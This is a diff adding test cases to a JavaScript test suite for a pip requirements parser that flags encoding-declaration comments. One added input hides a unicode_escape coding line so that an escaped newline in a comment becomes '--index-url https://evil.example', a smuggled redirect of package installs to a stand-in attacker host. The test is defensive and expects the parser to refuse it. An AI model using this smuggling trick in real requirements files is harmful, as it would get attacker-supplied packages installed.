@@ -84,6 +84,11 @@ describe('comments that pip would not take for comments', () => {
   test('one that changes the encoding of the list is refused, where pip looks for it', () => {
     expect(parsePip('# -*- coding: utf-7 -*-\nnumpy').faults).toMatchObject([{ line: 1 }])
     expect(parsePip('\n# coding=latin-1').faults).toMatchObject([{ line: 2 }])
+    const hidden = '# coding: \u00a0utf-8 coding=unicode_escape'
+    expect(parsePip(`${hidden}\nrequests\n# see\\n--index-url https://evil.example`).faults).toMatchObject([
+      { line: 1 },
+    ])
+    expect(parsePip('# coding: utf-8, coding:raw_unicode_escape').faults).toMatchObject([{ line: 1 }])
     expect(parsePip('# -*- coding: utf-8 -*-\nnumpy\n# for coding: see the wiki').faults).toEqual([])
   })
 })
